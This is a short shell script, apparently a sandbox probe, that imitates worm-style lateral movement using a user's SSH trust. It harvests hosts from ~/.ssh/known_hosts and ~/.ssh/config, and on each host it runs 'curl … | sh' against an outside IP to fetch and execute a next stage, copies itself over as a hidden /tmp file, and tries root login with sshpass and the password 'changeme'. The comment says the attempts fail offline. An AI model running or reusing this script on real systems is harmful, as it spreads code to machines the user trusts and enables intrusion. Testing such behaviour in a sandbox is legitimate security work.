#!/bin/sh
# Lateral movement with the user's SSH trust, as worms and post-install stages do: read the
# hosts the user connects to from ~/.ssh/known_hosts and ~/.ssh/config, then try each with
# ssh in batch mode without host-key checking (a command to fetch and run the next stage),
# copy itself over with scp, and try sshpass with a guessed password. No network in the
# sandbox: every attempt fails (sshpass is not installed: a PATH miss), which is the finding.
hosts=$(awk '{print $1}' "$HOME/.ssh/known_hosts"; awk '/HostName/ {print $2}' "$HOME/.ssh/config")
for h in $hosts; do
  ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 "$h" 'curl -s http://198.51.100.7/s | sh' </dev/null
  scp -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 "$0" "$h:/tmp/.u.sh"
  sshpass -p 'changeme' ssh -o StrictHostKeyChecking=no "root@$h" true
done
exit 0
